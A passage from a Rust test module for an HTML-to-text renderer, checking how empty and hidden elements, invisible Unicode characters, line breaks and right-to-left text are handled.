            "<table><tbody><tr><th>Tools</th><td><ul><li>saw</li></ul></td></tr></tbody></table>"
        );
    }

    #[test]
    fn empty_elements_and_hidden_ones_are_left_out() {
        let out =
            html_of("<div><p></p><p> </p><div><span></span></div><p hidden>h</p><p>x</p></div>");
        assert_eq!(out, "<div><p>x</p></div>");
    }

    #[test]
    fn invisible_characters_leave_the_text_not_the_html() {
        let r = render_body(
            "<p>Mit\u{ad}tel\u{ad}al\u{ad}ter \u{200b}zero\u{200b}width \u{200f}mark\u{feff}</p>\
             <p>\u{200d}</p><p>\u{2060} \u{200b}</p><p>After</p>",
            None,
        );
        assert_eq!(r.text, "Mittelalter zerowidth mark\n\nAfter");
        // A paragraph of invisible characters only is no block of text.
        assert_eq!(r.blocks.len(), 2);
        // The HTML keeps them, for the browser (soft hyphens hyphenate).
        assert_eq!(
            r.html,
            "<p>Mit\u{ad}tel\u{ad}al\u{ad}ter \u{200b}zero\u{200b}width \u{200f}mark\u{feff}</p>\
             <p>\u{200d}</p><p>\u{2060} \u{200b}</p><p>After</p>"
        );
        let r = render_body("<pre>a\u{ad}b\u{200b}\n  c</pre>", None);
        assert_eq!(r.text, "ab\n  c");
    }

    #[test]
    fn words_are_not_glued_across_left_out_breaks_and_blocks() {
        // An element left out as empty still breaks the line it holds.
        let r = render_body(
            "<h3><a href=/x><b>Homegrown</b><b><br></b></a><b>Magnolia Network</b></h3>",
            None,
        );
        assert_eq!(r.text, "Homegrown\nMagnolia Network");
        assert_eq!(
            r.html,
            "<h3><a href=\"/x\"><b>Homegrown</b><br></a><b>Magnolia Network</b></h3>"
        );
        // An empty block splits the line around it, as it does on the page.
        let r = render_body(
            "<div>foo<div></div>bar <span><br></span><span><br></span>baz</div>",
            None,
        );
        assert_eq!(r.text, "foo\n\nbar\n\nbaz");
        assert_eq!(r.blocks.len(), 3);
        // Hidden elements separate nothing; nor does an empty element
        // before any text.
        let r = render_body(
            "<div><b><br></b>foo<span hidden><br></span>bar<div hidden></div>baz</div>",
            None,
        );
        assert_eq!(r.text, "foobarbaz");
    }

    #[test]
    fn right_to_left_text_keeps_direction() {
        let r = render_body(r#"<p dir="rtl" lang="ar">مرحبا بالعالم</p>"#, None);
        assert_eq!(r.html, r#"<p lang="ar" dir="rtl">مرحبا بالعالم</p>"#);
        assert_eq!(r.text, "مرحبا بالعالم");
    }
}
